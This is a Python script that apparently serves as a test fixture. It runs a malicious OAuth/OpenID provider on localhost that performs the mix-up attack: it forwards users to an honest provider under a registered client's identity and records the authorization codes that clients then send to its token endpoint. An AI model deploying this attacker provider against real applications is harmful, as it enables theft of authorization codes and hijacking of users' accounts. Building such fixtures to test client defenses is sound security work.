#!/usr/bin/env python3
"""An identity provider that attacks by mix-up (RFC 9700 section 4.4): who is sent to it to sign in is sent on to an
honest provider, in the name of an application that is registered there, so that the honest provider's code is brought
to this one's token endpoint.

    mixup_provider.py --honest AUTHORIZATION_ENDPOINT --client ID --scope SCOPES [--redirect-path PATH]

--client is the honest provider's name for the application; --redirect-path has the answer brought to that path of the
same listener instead of the one that this provider was told. Prints `listening PORT` when it is ready; GET
/testing/stolen lists what its token endpoint was sent, one form a line. Only the standard library is used.
"""

import argparse
import http.server
import json
import urllib.parse


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--honest", required=True)
    parser.add_argument("--client", required=True)
    parser.add_argument("--scope", required=True)
    parser.add_argument("--redirect-path")
    options = parser.parse_args()
    stolen = []

    class Provider(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):
            place, _, query = self.path.partition("?")
            issuer = "http://127.0.0.1:%d" % self.server.server_port
            if place == "/.well-known/openid-configuration":
                self.answer(
                    200,
                    json.dumps(
                        {
                            "issuer": issuer,
                            "authorization_endpoint": issuer + "/authorize",
                            "token_endpoint": issuer + "/token",
                            "jwks_uri": issuer + "/keys",
                        }
                    ),
                )
            elif place == "/authorize":
                asked = dict(urllib.parse.parse_qsl(query))
                asked.update(client_id=options.client, scope=options.scope)
                if options.redirect_path is not None:
                    asked["redirect_uri"] = urllib.parse.urljoin(asked["redirect_uri"], options.redirect_path or "/")
                    if not options.redirect_path:
                        asked["redirect_uri"] = asked["redirect_uri"].rstrip("/")
                self.answer(302, "", ("Location", options.honest + "?" + urllib.parse.urlencode(asked)))
            elif place == "/testing/stolen":
                self.answer(200, "".join(form + "\n" for form in stolen))
            else:
                self.answer(404, "")

        def do_POST(self):
            stolen.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self.answer(400, '{"error": "invalid_grant"}')

        def answer(self, status, body, *fields):
            self.send_response(status)
            for name, value in (("Content-Type", "application/json"), ("Content-Length", str(len(body))), *fields):
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Provider)
    print("listening", server.server_port, flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
